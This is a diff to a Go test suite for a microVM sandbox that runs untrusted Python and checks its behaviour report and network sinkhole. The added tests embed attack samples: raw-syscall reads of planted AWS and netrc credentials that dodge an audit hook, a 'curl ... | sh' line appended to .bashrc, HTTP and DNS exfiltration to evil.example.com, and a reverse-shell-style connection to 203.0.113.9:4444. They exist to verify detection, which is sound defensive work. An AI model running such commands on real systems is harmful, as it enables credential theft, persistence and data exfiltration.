@@ -6,8 +6,10 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"net"
 	"os"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -28,17 +30,14 @@ func newBackend() moat.Backend { return &microvm.Backend{} }
 // options: the program runs on a guest kernel, so its processes are not
 // the host's (the Sentry relaxations: the cleanup and orphan cases require
 // that nothing of a run is left on the host instead); the guest's RAM is
-// the program's limit plus the VM's own share; there is no behaviour
-// report from the guest yet. Under TCG emulation
+// the program's limit plus the VM's own share. Under TCG emulation
 // (emulated true) a guest boots in seconds of CPU: the cases run one at a
 // time, and every bound on a case grows by a boot's worst case on a loaded
 // host.
 func options(emulated bool) moattest.Options {
 	o := moattest.Options{
-		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit"},
+		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit", "behaviour-report"},
 		Sentry: &moattest.Sentry{Leftovers: microvm.Leftovers},
-		// The guest makes no behaviour report yet (docs/microvm.md).
-		NoReport: true,
 	}
 	if emulated {
 		o.Serial, o.StartBound, o.ProgramStart = true, 90*time.Second, 20*time.Second
@@ -67,8 +66,7 @@ func TestMicroVM(t *testing.T) {
 // TestRefused: what the guest does not have is refused, not weakened.
 func TestRefused(t *testing.T) {
 	for _, spec := range []*moat.Spec{
-		{Args: []string{"-c", "pass"}, Network: moat.NetworkSinkhole},
-		{Args: []string{"-c", "pass"}, Image: "python:3"},
+		{Args: []string{"-c", "pass"}, Network: moat.NetworkAllow("example.com:443")},
 		{Args: []string{"-c", "pass"}, Userland: true},
 	} {
 		_, err := (&microvm.Backend{}).Run(context.Background(), spec)
@@ -165,5 +163,229 @@ func TestRestoredApart(t *testing.T) {
 	}
 	if outs[1].hash == outs[2].hash {
 		t.Errorf("two restored guests have the same string hash seed (%s)", outs[1].hash)
+	}
+}
+
+// TestReport: the behaviour report is made in the guest. The program reads
+// a planted credential with raw system calls the audit hook does not see
+// (ctypes' syscall of openat and read), writes a startup file, runs a
+// process and makes a vsock socket with a raw system call; the guest
+// kernel's witness reports the read, the agent's diff the startup file,
+// the hook its hello, and the agent's seccomp listener the exec and the
+// refused socket as kernel events.
+func TestReport(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	code := `
+import ctypes, os, subprocess, sys
+libc = ctypes.CDLL(None, use_errno=True)
+p = os.path.expanduser('~/.aws/credentials').encode()
+fd = libc.syscall(257, -100, p, 0, 0)   # openat, behind the hook's back
+buf = ctypes.create_string_buffer(4096)
+n = libc.syscall(0, fd, buf, 4096)      # read
+print('read', n)
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+subprocess.run([sys.executable, '-c', 'pass  # child-marker'])
+print('vsock', libc.syscall(41, 40, 1, 0))  # socket(AF_VSOCK, SOCK_STREAM)
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "read ") || strings.Contains(res.Stdout, "read -1") {
+		t.Fatalf("result: %+v", res)
+	}
+	var planted, witnessed, bashrc, hello, layer, exec, vsock bool
+	for _, e := range res.Events {
+		switch {
+		case e.Kind == moat.KindHoneytokenPlanted && strings.HasSuffix(e.Path, "/.aws/credentials"):
+			planted = true
+		case e.Source == moat.SourceKernel && e.Kind == moat.KindHoneytokenRead && strings.HasSuffix(e.Path, "/.aws/credentials"):
+			witnessed = true
+		case e.Source == "fs" && strings.HasSuffix(e.Path, "/.bashrc"):
+			bashrc = true
+		case e.Source == moat.SourceAudit && e.Kind == moat.KindHello:
+			hello = true
+		case e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.Contains(e.Detail, "child-marker"):
+			exec = true
+		case e.Source == moat.SourceKernel && e.Kind == "socket" && e.Name == "AF_VSOCK":
+			vsock = true
+		}
+	}
+	for _, l := range res.Layers {
+		layer = layer || (l.Name == "behaviour-report" && strings.Contains(l.Detail, "guest"))
+	}
+	if !planted || !witnessed || !bashrc || !hello || !layer || !exec || !vsock {
+		t.Errorf("planted %v, kernel witness of the read %v, .bashrc in the diff %v, hook's hello %v, layer %v, kernel exec %v, kernel vsock socket %v; events %+v",
+			planted, witnessed, bashrc, hello, layer, exec, vsock, res.Events)
+	}
+	if !hasFinding(res, "credential-access", "") || !hasFinding(res, "persistence", ".bashrc") {
+		t.Errorf("findings %+v", res.Findings)
+	}
+}
+
+func hasFinding(res *moat.Result, category, summary string) bool {
+	for _, f := range res.Findings {
+		if string(f.Category) == category && strings.Contains(f.Summary, summary) {
+			return true
+		}
+	}
+	return false
+}
+
+// TestSinkhole: with --network sinkhole the guest sees a network where
+// every name resolves and every connection is answered by moat's sink in
+// the guest, and recorded; nothing reaches the host (a listener on the
+// host's loopback counts connections) or beyond.
+func TestSinkhole(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	var accepted atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	prog := fmt.Sprintf(`
+import socket, ssl, urllib.request
+r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=30)
+print("http", r.status, r.read())
+raw = socket.create_connection(("198.51.100.1", 443), timeout=30)
+t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
+print("tls verified", t.getpeercert()["subject"])
+t.close()
+s = socket.create_connection(("203.0.113.9", 4444), timeout=30)
+s.sendall(b"id\n")
+s.close()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"beacon", ("198.51.100.7", 9999))
+print("dns", socket.gethostbyname("exfil-label.exfil.example"))
+for host in ("10.0.2.2", "127.0.0.1"):
+    try:
+        socket.create_connection((host, %d), timeout=5).close()
+        print("connected", host)
+    except OSError as e:
+        print("refused", host, e.errno)
+`, port)
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", prog}, Network: moat.NetworkSinkhole})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("result: %+v", res)
+	}
+	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "refused 127.0.0.1"} {
+		if !strings.Contains(res.Stdout, w) {
+			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
+		}
+	}
+	event := func(kind string, want ...string) bool {
+		for _, e := range res.Events {
+			all := strings.Join([]string{e.Addr, e.Name, e.Detail, e.Path, e.Data}, "\x00")
+			ok := e.Source == "network" && string(e.Kind) == kind
+			for _, w := range want {
+				ok = ok && strings.Contains(all, w)
+			}
+			if ok {
+				return true
+			}
+		}
+		return false
+	}
+	for _, c := range []struct {
+		what string
+		ok   bool
+	}{
+		{"dns evil.example.com", event("dns", "evil.example.com", "sinkholed A 198.18.")},
+		{"http connect", event("connect", "evil.example.com", "host=evil.example.com", "/steal?x=1", "secret")},
+		{"tls sni", event("connect", "198.51.100.1:443", "sni=bank.example decrypted")},
+		{"reverse shell", event("connect", "203.0.113.9:4444", "sinkholed tcp", `id\n`)},
+		{"udp", event("connect", "198.51.100.7:9999", "sinkholed udp", "beacon")},
+		{"dns exfil label", event("dns", "exfil-label.exfil.example")},
+	} {
+		if !c.ok {
+			t.Errorf("no network event for %s; events %+v", c.what, res.Events)
+		}
+	}
+	if n := accepted.Load(); n != 0 {
+		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed guest", port, n)
+	}
+	layer := false
+	for _, l := range res.Layers {
+		layer = layer || l.Name == "network-sinkhole"
+	}
+	if !layer {
+		t.Errorf("no network-sinkhole layer: %+v", res.Layers)
+	}
+}
+
+// TestImage: with --image the guest's root is the image's file system and
+// its own python3 runs, not the host's; the report still works there.
+// It needs Docker and the image (MOAT_TEST_IMAGE, as the container
+// suites).
+func TestImage(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	image := os.Getenv("MOAT_TEST_IMAGE")
+	if image == "" {
+		t.Skip("MOAT_TEST_IMAGE not set")
+	}
+	code := `
+import os, sys
+print(sys.executable, os.path.exists('/etc/debian_version'), os.getuid())
+open(os.path.expanduser('~/.netrc')).read()
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Image: image})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("result: %+v", res)
+	}
+	if got := strings.Fields(res.Stdout); len(got) != 3 || (got[0] != "/usr/local/bin/python3" && got[0] != "/usr/bin/python3") || got[1] != "True" || got[2] != "1000" {
+		t.Errorf("stdout %q: want the image's python3, its /etc, uid 1000", res.Stdout)
+	}
+	if !hasFinding(res, "credential-access", "") {
+		t.Errorf("the read of the planted .netrc went unreported: %+v", res.Findings)
+	}
+	layer := false
+	for _, l := range res.Layers {
+		layer = layer || (l.Name == "read-only-runtime" && strings.Contains(l.Detail, image))
+	}
+	if !layer {
+		t.Errorf("layers %+v", res.Layers)
+	}
+}
+
+// TestReportTimeout: a program stopped by the timeout still gets its
+// report: moat asks the agent to end it, and the agent sends its exit and
+// report before the VM goes (without that, the report is cut).
+func TestReportTimeout(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	code := `
+import os, time
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+print('written', flush=True)
+time.sleep(100000)
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Limits: moat.Limits{Timeout: 30 * time.Second}})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "written") {
+		t.Fatalf("result: %+v", res)
+	}
+	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
+		t.Errorf("findings %+v", res.Findings)
 	}
 }
